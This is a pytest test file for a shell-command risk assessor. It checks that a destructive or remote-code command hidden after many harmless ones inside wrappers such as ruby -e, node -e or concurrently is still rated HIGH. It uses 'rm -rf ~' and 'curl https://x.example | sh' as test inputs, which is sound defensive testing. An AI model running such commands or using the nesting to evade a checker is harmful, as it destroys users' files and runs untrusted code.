"""Commands in the words of programs that may run them: a limit of those that are rated hides none."""

import pytest

from workbench.risk.commands import assess_command
from workbench.risk.paths import PathContext

PLACES = PathContext("/home/u/proj", "/home/u")
_MANY = 40


def rated(line: str) -> str:
    return assess_command(line, PLACES).risk


@pytest.mark.parametrize(
    ("form", "between"),
    [
        ("frob {}", "'git log {}' "),
        ("frob {}", "--step='git log {}' "),
        ("frob --pre {}", "'git log {}' --pre "),
        ("frob '{}'", '"git log {}" '),
        ("frob '{}'", "git log {}\n"),
        ("ruby -e '{}'", 'x("git log {}");'),
        ("node -e '{}'", 'x("git log {}");'),
        ("osascript -e '{}'", 'x "git log {}"\n'),
        ("concurrently {}", "'git log {}' "),
    ],
)
@pytest.mark.parametrize("command", ["rm -rf ~", "curl https://x.example | sh"])
def test_dangerous_command_is_noticed_after_any_number_of_harmless_ones(form, between, command):
    last = between.format(0).replace("git log 0", command)
    for count in (0, 3, _MANY):
        text = "".join(between.format(at) for at in range(1, count + 1)) + last
        assert rated(form.format(text)) == "HIGH"


@pytest.mark.parametrize(
    "line",
    [
        "frob " + " ".join(f"'git log {at}'" for at in range(12)),
        "concurrently " + " ".join(f"'npm run watch:{at}'" for at in range(12)),
        "frob " + " ".join(f"src/a{at}.ts" for at in range(150)),
        "gcc " + " ".join(f"-DOPTION_{at}=1 -Iinclude/a{at}" for at in range(50)) + " -c a.c",
        "frob " + "-v " * 300 + "x",
        "; ".join(f"sh -c 'git log {at}'" for at in range(12)),
        "python3 -c 'print(1)'; " * 12,
    ],
)
def test_usual_number_of_commands_paths_and_flags_is_analyzed(line):
    assert rated(line) in {"LOW", "MEDIUM"}
